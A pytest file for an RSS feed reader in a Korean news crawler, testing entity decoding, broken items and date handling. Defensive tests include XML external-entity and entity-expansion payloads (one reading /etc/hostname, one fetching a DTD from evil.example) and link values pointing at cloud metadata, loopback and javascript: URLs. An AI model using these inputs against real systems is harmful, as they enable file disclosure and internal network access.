"""Feeds as they are sent: with stray signs, HTML's entities, broken items, and traps."""

from datetime import UTC, datetime

import pytest

from nunchi.crawl.rss import read_rss
from nunchi.crawl.source import SourceChanged
from nunchi.crawl.sources import SOURCES

ITEM = "<item><title>{}</title><link>https://www.mk.co.kr/news/stock/{}</link><pubDate>{}</pubDate></item>"
AT = "Mon, 19 Oct 2026 09:28:11 +0900"
SOUND = ITEM.format("누리해운, 흑자 전환", 99000017, AT)


def feed(*items: str, head: str = '<?xml version="1.0" encoding="UTF-8"?>') -> bytes:
    return f'{head}<rss version="2.0"><channel><title>증권</title>{"".join(items)}</channel></rss>'.encode()


def titles(*items: str) -> list[str]:
    return [link.title for link in read_rss(feed(*items))]


@pytest.mark.parametrize(
    ("written", "title"),
    [
        ("R&D 늘린 미르바이오", "R&D 늘린 미르바이오"),
        ("R&amp;D 늘린 미르바이오", "R&D 늘린 미르바이오"),
        ("미르바이오 &lsquo;3상&rsquo;&hellip;주가&nbsp;7%&uarr;", "미르바이오 ‘3상’…주가 7%↑"),
        ("S&P 500 &unknown; A&B;", "S&P 500 &unknown; A&B;"),
        ("미르\x08바이오\x00 3상", "미르바이오 3상"),
        ("미르 <b>바이오</b> 3상", "미르 바이오 3상"),
        ("<![CDATA[R&D <b>늘린</b> &quot;미르&quot;]]>", 'R&D <b>늘린</b> "미르"'),
        ("&LT;미르&GT; & <![CDATA[3상 & 4상]]> & 끝", "<미르> & 3상 & 4상 & 끝"),
        ("&#8220;3상&#8221; &#x2191;", "“3상” ↑"),
    ],
)
def test_a_title_is_read_however_it_is_written(written: str, title: str) -> None:
    assert titles(ITEM.format(written, 1, AT), SOUND) == [title, "누리해운, 흑자 전환"]


@pytest.mark.parametrize(
    "broken",
    [
        "<item><title>닫히지 않은</b></title><link>https://www.mk.co.kr/news/stock/2</link></item>",
        "<item><title>주소가 없는 기사</title></item>",
        "<item><title>주소가 빈 기사</title><link> </link></item>",
        "<item><title><![CDATA[끝나지 않는 기사</title></item>",
        "<item><media:nothing:x></item>",
        "<item",
    ],
)
def test_a_bad_item_is_passed_over(broken: str) -> None:
    assert "누리해운, 흑자 전환" in titles(SOUND, broken)


def test_an_unknown_prefix_is_no_obstacle() -> None:
    assert titles(
        SOUND.replace("</item>", '<media:content url="x"/><content:encoded>x</content:encoded></item>')
    ) == ["누리해운, 흑자 전환"]


def test_what_is_cut_off_in_the_middle_still_has_its_first_items() -> None:
    assert [link.title for link in read_rss(feed(SOUND, SOUND)[: -len(SOUND)])] == ["누리해운, 흑자 전환"]


def test_the_time_may_be_dublin_cores_and_the_address_the_guids() -> None:
    item = "<item><title>x</title><guid>https://www.mk.co.kr/news/stock/3</guid><dc:date>2026-10-19T09:28:11+09:00</dc:date></item>"
    (link,) = read_rss(feed(item))
    assert (link.url, link.published_at) == (
        "https://www.mk.co.kr/news/stock/3",
        datetime(2026, 10, 19, 0, 28, 11, tzinfo=UTC),
    )


@pytest.mark.parametrize("written", ["방금 전", "", "2026-10-19"])
def test_an_item_without_a_time_is_still_listed(written: str) -> None:
    (link,) = read_rss(feed(ITEM.format("x", 1, written)))
    assert link.published_at is None


@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE rss [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/hostname">]>',
        '<!DOCTYPE rss [<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;]>',
    ],
)
def test_a_feed_with_entities_of_its_own_is_refused(declared: str) -> None:
    with pytest.raises(ValueError, match="not a plain feed"):
        read_rss(feed(ITEM.format("&a;", 1, AT), head=declared))


def test_only_links_to_its_own_host_are_kept() -> None:
    foreign = (
        "https://www.mk.co.kr.evil.example/news/stock/1",
        "http://169.254.169.254/latest/meta-data",
        "http://127.0.0.1:9/news/stock/1",
        "//evil.example/news/stock/1",
        "javascript:alert(1)",
        "/news/stock/1",
    )
    items = [f"<item><title>x</title><link>{url}</link></item>" for url in foreign]
    assert [link.title for link in SOURCES["maekyung"].parse_listing(feed(*items, SOUND))] == [
        "누리해운, 흑자 전환"
    ]
    with pytest.raises(SourceChanged, match="no link to its own pages"):
        SOURCES["maekyung"].parse_listing(feed(*items))
